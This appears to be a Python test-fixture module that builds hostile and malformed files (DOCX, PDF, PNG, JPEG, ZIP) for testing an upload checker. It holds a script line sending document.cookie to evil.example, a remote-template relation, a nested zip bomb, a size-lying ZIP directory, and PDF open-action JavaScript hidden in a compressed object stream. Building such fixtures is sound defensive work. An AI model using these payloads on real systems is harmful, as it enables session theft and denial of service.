"""Files made to harm whoever opens them: each as small as it does harm, all made here."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

from tests.documents import files

HTML = b"<html><script>fetch('https://evil.example/'+document.cookie)</script></html>"
RELATIONS = (
    b'<?xml version="1.0" encoding="UTF-8"?><Relationships '
    b'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">%s</Relationships>'
)
OFFICE = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def word_with(**parts: bytes) -> bytes:
    """A real DOCX with further or other parts; ``__`` in names becomes ``/`` and ``_DOT_`` a dot."""
    return word_with_named({name.replace("__", "/").replace("_DOT_", "."): raw for name, raw in parts.items()})


def word_with_named(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(files.word("Riwayat hidup"))) as source:
        kept = {info.filename: source.read(info) for info in source.infolist()}
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for name, raw in (kept | parts).items():
            target.writestr(name, raw)
    return out.getvalue()


def word_twice(name: str) -> bytes:
    """A part of this name two times."""
    out = io.BytesIO(files.word("x"))
    with zipfile.ZipFile(out, "a") as target:
        info = zipfile.ZipInfo(name)
        target.filelist = list(target.filelist)
        target.NameToInfo.pop(name, None)
        target.writestr(info, b"<other/>")
    return out.getvalue()


def outside_relation(kind: bytes) -> bytes:
    target = b'<Relationship Id="r9" Type="%s%s" Target="https://evil.example/x.dotm" TargetMode="External"/>'
    return word_with(word___rels__settings_DOT_xml_DOT_rels=RELATIONS % (target % (OFFICE, kind)))


def linked() -> bytes:
    """A link that somebody has to follow harms nobody."""
    relation = b'<Relationship TargetMode="External" Id="r9" Type="%shyperlink" Target="https://contoh.example/"/>'
    return word_with(word___rels__settings_DOT_xml_DOT_rels=RELATIONS % (relation % OFFICE))


def nested(levels: int = 5, size: int = 2_000_000) -> bytes:
    """An archive within an archive within …, the innermost of zeros."""
    inner = bytes(size)
    for level in range(levels):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
            for copy in range(8 if level else 1):
                target.writestr(f"{copy}.zip" if level else "0", inner)
        inner = out.getvalue()
    return word_with(word__embeddings__x_DOT_bin=inner)


def lying_size() -> bytes:
    """The directory says that a part of megabytes is small."""
    raw = bytearray(word_with(word__media__x_DOT_xml=b"A" * 3_000_000))
    place = raw.rfind(b"word/media/x.xml") - 46
    assert raw[place : place + 4] == b"PK\x01\x02"
    raw[place + 24 : place + 28] = struct.pack("<I", 100)
    return bytes(raw)


def encrypted_part() -> bytes:
    raw = bytearray(files.word("x"))
    place = raw.find(b"PK\x01\x02")
    raw[place + 8] |= 1
    return bytes(raw)


def odd_method() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for name in ("[Content_Types].xml", "word/document.xml"):
            target.writestr(name, b"<x/>", zipfile.ZIP_LZMA)
    return out.getvalue()


def pdf_with(change: Callable[[PdfWriter], None]) -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(files.pdf("Ijazah"))))
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _named(**values: object) -> DictionaryObject:
    return DictionaryObject({NameObject(f"/{name}"): value for name, value in values.items()})


def pdf_action(kind: str, **more: object) -> bytes:
    """A PDF that does something when it is opened."""

    def change(writer: PdfWriter) -> None:
        action = _named(S=NameObject(f"/{kind}"), **more)
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)

    return pdf_with(change)


def pdf_script() -> bytes:
    return pdf_action("JavaScript", JS=TextStringObject("app.alert('x')"))


def pdf_attachment() -> bytes:
    return pdf_with(lambda writer: writer.add_attachment("virus.exe", b"MZ"))


def pdf_annotation(subtype: str) -> bytes:
    def change(writer: PdfWriter) -> None:
        box = ArrayObject(NumberObject(each) for each in (0, 0, 10, 10))
        note = _named(Type=NameObject("/Annot"), Subtype=NameObject(f"/{subtype}"), Rect=box)
        writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(note)])

    return pdf_with(change)


def pdf_form_of_xml() -> bytes:
    def change(writer: PdfWriter) -> None:
        writer._root_object[NameObject("/AcroForm")] = _named(XFA=TextStringObject("<xdp/>"))

    return pdf_with(change)


def pdf_script_in_packed_objects() -> bytes:
    """The script's name stands nowhere in plain sight: its object lies in a compressed stream (ISO 32000-1, 7.5.7)."""
    inner = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
    packed = zlib.compress(b"4 0 " + inner)
    rows = [b"%PDF-1.5\n"]
    places = {}

    def put(number: int, body: bytes) -> None:
        places[number] = sum(map(len, rows))
        rows.append(b"%d 0 obj\n%s\nendobj\n" % (number, body))

    put(1, b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>")
    put(2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
    put(3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>")
    head = b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream"
    put(5, head % (len(packed), packed))
    places[6] = sum(map(len, rows))
    table = b"\0\0\0\0\xff" + b"".join(_row(number, places) for number in range(1, 7))
    stream = b"<< /Type /XRef /Size 7 /Root 1 0 R /W [1 3 1] /Length %d >>\nstream\n%s\nendstream"
    rows.append(b"6 0 obj\n" + stream % (len(table), table) + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % places[6])
    return b"".join(rows)


def _row(number: int, places: dict[int, int]) -> bytes:
    if number == 4:
        return b"\2" + (5).to_bytes(3, "big") + b"\0"
    return b"\1" + places[number].to_bytes(3, "big") + b"\0"


def zipped(**parts: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for name, raw in parts.items():
            target.writestr(name, raw)
    return out.getvalue()


def png_with(name: bytes, data: bytes) -> bytes:
    """A PNG with one more chunk before its pixels."""
    plain = files.png()
    place = plain.index(b"IDAT") - 4
    chunk = struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
    return plain[:place] + chunk + plain[place:]


def jpeg_with(marker: int, data: bytes) -> bytes:
    """A JPEG with one more segment after its beginning."""
    return b"\xff\xd8\xff" + bytes([marker]) + struct.pack(">H", len(data) + 2) + data + files.jpeg()[2:]
